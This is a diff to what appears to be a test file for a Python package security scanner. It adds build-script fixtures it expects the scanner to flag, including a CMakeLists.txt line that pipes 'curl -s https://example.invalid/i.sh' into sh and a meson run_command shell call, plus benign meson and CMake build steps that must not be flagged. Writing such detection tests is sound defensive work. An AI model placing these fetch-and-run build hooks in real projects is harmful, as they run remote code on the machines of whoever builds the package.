@@ -428,10 +428,28 @@ CONFIGURED_CODE = (
     ),
 )
 
+# Commands of build scripts in other languages that the build backend runs (meson, CMake).
+BUILD_SCRIPTS = (
+    Technique(
+        "meson-run-command-shell",
+        "",
+        files={"pyproject.toml": _pyproject("mesonpy", "meson-python", ""),
+               "meson.build": f"project('demo', 'c')\nrun_command('sh', '-c', {_TOUCH!r}, "
+               "check: false)\n"},
+    ),
+    Technique(
+        "cmake-execute-process-downloader",
+        "",
+        files={"pyproject.toml": _pyproject("scikit_build_core.build", "scikit-build-core", ""),
+               "CMakeLists.txt": "project(demo)\nexecute_process(COMMAND sh -c "
+               "\"curl -s https://example.invalid/i.sh | sh\")\n"},
+    ),
+)
+
 BLOCKED = (
     IMPLICIT_CALLS + EXEC_BY_OTHER_NAMES + LOOKUPS + EXFILTRATION + WRITERS + DECODERS + ARGV
     + CODE_REWRITE + UNREAD_CODE + BUILD_FETCHES + DATA_FILE_PAYLOADS + SPLIT_ACROSS_MODULES
-    + ASSEMBLED + CONFIGURED_CODE
+    + ASSEMBLED + CONFIGURED_CODE + BUILD_SCRIPTS
 )
 
 # Ordinary build code near these techniques: it must stay below medium.
@@ -526,6 +544,16 @@ ORDINARY = (
         Severity.INFO,
         {"pyproject.toml": _pyproject("hatchling.build", "hatchling", ""),
          "hatch_build.py": f"import os\nos.system({_TOUCH!r})\n"},
+    ),
+    Technique(
+        "meson-and-cmake-build-steps",
+        "",
+        Severity.INFO,
+        {"meson.build": "project('demo', 'c')\nsrc = custom_target(output: '_u.c', command: "
+         "[cy.cmd_array(), '-3', '--generate-shared=' + meson.current_build_dir() / '_u.c'])\n"
+         "run_command('ln', '-s', '-f', meson.current_source_dir() / 'meson.build', link)\n",
+         "CMakeLists.txt": "add_custom_command(TARGET t POST_BUILD COMMAND \"${CMAKE_COMMAND}\""
+         " -E copy \"$<TARGET_FILE:t>\" \"$<TARGET_FILE_DIR:t>/t2\")\n"},
     ),
     Technique(
         "decorator-renaming-a-function-code",
